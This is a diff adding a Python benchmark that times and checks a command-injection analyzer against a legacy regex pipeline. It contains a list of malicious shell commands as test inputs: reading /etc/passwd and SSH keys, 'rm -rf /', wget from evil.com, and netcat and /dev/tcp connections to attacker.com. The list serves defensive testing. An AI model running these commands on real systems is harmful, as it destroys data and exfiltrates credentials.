@@ -0,0 +1,165 @@
+"""
+Command analyzer microbenchmark
+-------------------------------
+Times the single-pass `command_analyzer` against the previous multi-pass
+pipeline (sanitize_input regex loop + shlex + whitelist + per-argument
+pattern loop + injection detector re.search loop) over a corpus of benign
+and malicious terminal commands, and checks every verdict.
+
+$ python benchmarks/bench_command_analyzer.py [iterations]
+"""
+
+import os
+import re
+import shlex
+import sys
+import time
+import urllib.parse
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+import command_analyzer  # noqa: E402
+
+BENIGN = [
+    "ls -la",
+    "ls",
+    "cat README.md",
+    "cat src/index.html",
+    "wc -l main.py",
+    "npm install",
+    "npm run build",
+    "npm test",
+    "python -m pip install requests",
+    "python -m pytest",
+    "pip list",
+    "git status",
+    "git add src/app.js",
+    "git add 'src/my file.js'",
+    "mkdir components",
+    "touch notes.txt",
+    "cp -r assets backup",
+    "mv old.txt new.txt",
+]
+
+MALICIOUS = [
+    "ls; cat /etc/passwd",
+    "ls && rm -rf /",
+    "ls || wget http://evil.com/malware.sh",
+    "ls `whoami`",
+    "ls $(id)",
+    "ls | nc attacker.com 4444",
+    "ls > /dev/tcp/attacker.com/4444",
+    "ls\nrm -rf /",
+    "ls\rwhoami",
+    "cat ${HOME}/.ssh/id_rsa",
+    "python -c 'exec(\"import os\")'",
+    "cat %3B%20id",
+    "ls & sleep 100",
+    "cat \\x2f\\x65\\x74\\x63",
+    "test.txt; ls -la",
+    "test.txt||whoami",
+]
+
+# Commands that pass sanitization but are not on the whitelist
+NOT_ALLOWED = [
+    "curl http://example.com",
+    "rm --no-preserve-root /",
+    "bash install.sh",
+    "git --exec-path",
+    "git commit -m 'initial commit'",
+]
+
+# ------------------------------------------------------------------
+# Previous pipeline, reproduced verbatim for timing
+# ------------------------------------------------------------------
+LEGACY_DANGEROUS_CHARS = r'[;&|`$()<>\\n\\r]'
+# The shipped class above also matched the letters 'n' and 'r' (raw string),
+# so almost every command bailed out early; time the intended class as well
+LEGACY_DANGEROUS_CHARS_INTENDED = r'[;&|`$()<>\\\n\r]'
+LEGACY_DANGEROUS_PATTERNS = [
+    r'&&', r'\|\|', r';', r'\|', r'`', r'\$\(',
+    r'\${', r'<', r'>', r'\n', r'\r', r'\\x',
+    r'eval\s*\(', r'exec\s*\(', r'system\s*\('
+]
+LEGACY_SUSPICIOUS = [
+    r'&&', r'\|\|', r';.*&', r'\|.*\|', r'`.*`',
+    r'\$\(.*\)', r'\${.*}', r'eval\s*\(', r'exec\s*\('
+]
+LEGACY_ARG_PATTERNS = ['&&', '||', ';', '|', '`', '$', '(', ')', '<', '>', '\n', '\r']
+
+
+def legacy_pipeline(command, dangerous_chars=LEGACY_DANGEROUS_CHARS):
+    text = command.replace('\x00', '')
+    if re.search(dangerous_chars, text):
+        return False
+    for pattern in LEGACY_DANGEROUS_PATTERNS:
+        if re.search(pattern, text, re.IGNORECASE):
+            return False
+    if '%' in text and re.search(dangerous_chars, urllib.parse.unquote(text)):
+        return False
+    try:
+        parts = shlex.split(text.strip())
+    except ValueError:
+        return False
+    if not command_analyzer.validate_parts(parts):
+        return False
+    for part in parts:
+        for pattern in LEGACY_ARG_PATTERNS:
+            if pattern in part:
+                return False
+    risk = 0
+    for pattern in LEGACY_SUSPICIOUS:
+        if re.search(pattern, text, re.IGNORECASE):
+            risk += 25
+    return risk < 50
+
+
+def check_verdicts():
+    analyzer = command_analyzer.CommandAnalyzer()
+    failures = []
+    for cmd in BENIGN:
+        verdict = analyzer.analyze(cmd, "bench")
+        if not verdict.allowed:
+            failures.append(f"benign blocked: {cmd!r} ({verdict.stage}: {verdict.reason})")
+    for cmd in MALICIOUS:
+        verdict = analyzer.analyze(cmd, "bench")
+        if verdict.allowed or verdict.stage != "sanitize":
+            failures.append(f"malicious not caught by scanner: {cmd!r}")
+    for cmd in NOT_ALLOWED:
+        verdict = analyzer.analyze(cmd, "bench")
+        if verdict.allowed:
+            failures.append(f"non-whitelisted allowed: {cmd!r}")
+    return failures
+
+
+def bench(label, fn, corpus, iterations):
+    start = time.perf_counter()
+    for _ in range(iterations):
+        for cmd in corpus:
+            fn(cmd)
+    elapsed = time.perf_counter() - start
+    calls = iterations * len(corpus)
+    print(f"{label:<28} {calls / elapsed:>12,.0f} cmds/s   {1e6 * elapsed / calls:8.2f} us/cmd")
+
+
+def main():
+    iterations = int(sys.argv[1]) if len(sys.argv) > 1 else 2000
+    failures = check_verdicts()
+    for failure in failures:
+        print("FAIL", failure)
+    print(f"verdicts: {len(BENIGN) + len(MALICIOUS) + len(NOT_ALLOWED) - len(failures)} ok, {len(failures)} failed\n")
+
+    corpus = BENIGN + MALICIOUS + NOT_ALLOWED
+    # Unique user ids so burst scoring doesn't kick in during the timing loop
+    analyzer = command_analyzer.CommandAnalyzer()
+    counter = iter(range(10 ** 9))
+
+    bench("legacy pipeline (shipped)", legacy_pipeline, corpus, iterations)
+    bench("legacy pipeline (intended)", lambda c: legacy_pipeline(c, LEGACY_DANGEROUS_CHARS_INTENDED), corpus, iterations)
+    bench("analyzer.sanitize", analyzer.sanitize, corpus, iterations)
+    bench("analyzer.analyze", lambda c: analyzer.analyze(c, f"u{next(counter) % 1000}"), corpus, iterations)
+    return 1 if failures else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())